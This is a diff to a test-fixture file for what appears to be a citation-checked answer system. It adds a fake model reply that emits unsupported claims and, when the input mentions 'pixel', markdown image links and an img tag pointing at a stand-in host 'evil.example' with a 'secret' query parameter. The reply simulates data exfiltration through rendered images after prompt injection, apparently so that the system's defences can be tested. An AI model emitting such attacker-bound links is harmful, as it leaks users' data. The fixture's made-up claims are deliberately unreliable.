@@ -212,13 +212,17 @@ class FakeLibrary:
         self._documents[document.id] = document
 
 
+EVIL = "http://evil.example/pixel.png?d=secret"
+
+
 def quoting(messages: Sequence[Message]) -> str:
-    """Reply with the first words of the first passage, and two sentences that nothing supports."""
-    evidence = "\n".join(message.content for message in messages)
+    """Reply with the first words of the first passage, a sentence that nothing supports, and what must not be fetched."""
+    evidence = "\n".join(message.content for message in messages if message.role == "user")
     passage = re.split(r"\[1\][^\n]*\n", evidence, maxsplit=1)[-1]
     lines = [line.strip() for line in passage.splitlines() if len(line.split()) > 8 and "[" not in line]
     first = lines[0].split(". ")[0].rstrip(".;:") if lines else "The passage says so"
-    return f"{first} [1].\n\nIn short:\n\n- It costs **4711 dollars** [2].\n- Dragons guard the mountain of the west."
+    attack = f" ![x]({EVIL}) [here]({EVIL}) <img src={EVIL}>" if "pixel" in evidence else ""
+    return f"{first} [1].\n\n- It costs **4711 dollars** [2].\n- Dragons guard the mountain of the west.{attack}"
 
 
 class FakeEngines:
@@ -246,9 +250,6 @@ class FakeEngines:
 
     def choose(self, _owner: str, engine: str, model: str) -> None:
         self.chosen.append((engine, model))
-
-    def warm_up(self) -> None:
-        pass
 
     def running(self) -> list[RunningModel]:
         return [RunningModel("phi4-mini", 3_400_000_000, 0, 8_192, time.time() + 240)]
@@ -296,6 +297,9 @@ class FakeVouch:
         self._desk = AnswerDesk()
 
     def start(self) -> None:
+        pass
+
+    def warm_up(self) -> None:
         pass
 
     def embedders(self) -> list[str]:
